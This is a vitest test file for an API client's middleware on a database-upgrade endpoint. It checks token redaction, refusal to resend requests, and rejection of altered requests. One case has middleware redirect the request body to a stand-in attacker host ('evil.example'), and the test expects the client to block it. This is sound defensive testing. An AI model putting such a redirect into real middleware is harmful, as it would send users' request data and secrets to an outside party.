import { inspect } from 'node:util'
import { describe, expect, it } from 'vitest'
import { maxInstanceIds } from '../../generated/operation.js'
import { RequestError, upgradeInstances } from '../../src/index.js'
import { collect } from '../support/collect.js'
import { availableId, madeUpIds, projectId } from '../support/ids.js'
import { startServer } from '../support/server.js'
import { clientOf, simulate, token } from './client-of.js'

const path = '/v3/{project_id}/instances/db-upgrade'
const call = { params: { path: { project_id: projectId } }, body: { instance_ids: [availableId] } }
const accepted = { upgrade_results: [{ instance_id: availableId, job_id: 'a-job' }] }

/** A client of a service that repeats the headers it got, and counts. */
function echo(status = 202) {
  const requests: Request[] = []
  const client = clientOf(async (url, init) => {
    const request = new Request(url, init)
    requests.push(request)
    await request.text()
    return Response.json(accepted, { status, headers: { 'X-Seen': [...request.headers].join(' ') } })
  })
  return { client, requests }
}

describe('middleware', () => {
  it('should see the request and the response, and add a header', async () => {
    const { client, requests } = echo()
    const seen: unknown[] = []
    client.use({
      onRequest({ request, schemaPath, params }) {
        seen.push(schemaPath, params)
        request.headers.set('Traceparent', 'a-trace')
      },
      onResponse: ({ response }) => void seen.push(response.status),
    })

    const { data } = await client.POST(path, call)

    expect(data).toEqual(accepted)
    expect(requests[0]?.headers.get('Traceparent')).toBe('a-trace')
    expect(seen).toEqual([path, call.params, 202])
  })

  it('should serve one call, and stop when it is ejected', async () => {
    const { client } = echo()
    let calls = 0
    const counting = { onRequest: () => void calls++ }

    await client.POST(path, { ...call, middleware: [counting] })
    await client.POST(path, call)
    client.use(counting)
    await client.POST(path, call)
    client.eject(counting)
    await client.POST(path, call)

    expect(calls).toBe(2)
  })

  it('should never see the token, not even where a server repeats it', async () => {
    const { client, requests } = echo()
    const seen: string[] = []
    client.use({
      onRequest: ({ request, options }) => void seen.push(inspect([request, [...request.headers], options])),
      async onResponse({ response }) {
        seen.push(inspect([...response.headers]), await response.clone().text())
      },
    })

    await client.POST(path, call)

    expect(requests[0]?.headers.get('X-Auth-Token')).toBe(token)
    expect(seen.join()).toContain('[token]')
    expect(seen.join()).not.toContain(token)
  })

  it.each([429, 503])('should not be able to send a request again after %d', async (status) => {
    const { client, requests } = echo(status)
    client.use({ onResponse: ({ request, options }) => options.fetch(new Request(request.url, request)) })

    await expect(client.POST(path, call)).rejects.toMatchObject({ code: 'UNEXPECTED', sent: true })
    expect(requests).toHaveLength(1)
  })

  it.each<[string, (request: Request) => Request]>([
    [
      'to another host',
      ({ body }) => new Request('https://evil.example/', { method: 'POST', body, ...half }),
    ],
    ['to another path', (request) => new Request(`${request.url}s`, request)],
    ['with a query', (request) => new Request(`${request.url}?dryRun=true`, request)],
    ['as a GET', ({ url }) => new Request(url)],
    ['with too many IDs', (request) => withBody(request, { instance_ids: madeUpIds(maxInstanceIds + 1) })],
    ['with a field of its own', (request) => withBody(request, { ...call.body, dryRun: true })],
    ['with a body that is no JSON', ({ url }) => new Request(url, { method: 'POST', body: '{' })],
  ])('should not be able to send a request %s', async (_, change) => {
    const { client, requests } = echo()
    client.use({ onRequest: ({ request }) => change(request) })

    await expect(client.POST(path, call)).rejects.toMatchObject({ name: 'InvalidInputError', sent: false })
    expect(requests).toHaveLength(0)
  })

  it('should be told when it has read the body of the request', async () => {
    const { client } = echo()
    client.use({ onRequest: async ({ request }) => void (await request.text()) })

    await expect(client.POST(path, call)).rejects.toThrow('let it read a clone')
  })

  it('should leave unsent what it fails before, and unknown the rest', async () => {
    // An error of another client, which says the contrary.
    const fail = (sent: boolean) => () => {
      throw new RequestError('', { code: 'TIMED_OUT', sent })
    }
    const [before, after] = [simulate().client, simulate().client]
    before.use({ onRequest: fail(true) })
    after.use({ onResponse: fail(false) })
    const run = (client: typeof before) =>
      collect(upgradeInstances(client, { projectId, instanceIds: [availableId] }))

    expect(await run(before)).toMatchObject([{ status: 'unsent', cause: { code: 'UNEXPECTED' } }])
    expect(await run(after)).toMatchObject([{ status: 'unknown', cause: { code: 'UNEXPECTED' } }])
  })

  it('should leave the error of a request that failed as it is', async () => {
    await using server = await startServer((_, response) => response.destroy())
    const seen: unknown[] = []
    const client = clientOf(fetch, { baseUrl: server.url })
    client.use({ onError: ({ error }) => void seen.push(error) })

    const error = await client.POST(path, call).catch((reason: unknown) => reason)

    expect(error).toMatchObject({ code: 'CONNECTION_LOST', sent: true })
    expect(seen).toEqual([error])
  })
})

const half = { duplex: 'half' } as const

function withBody(request: Request, body: object): Request {
  return new Request(request, { body: JSON.stringify(body) })
}
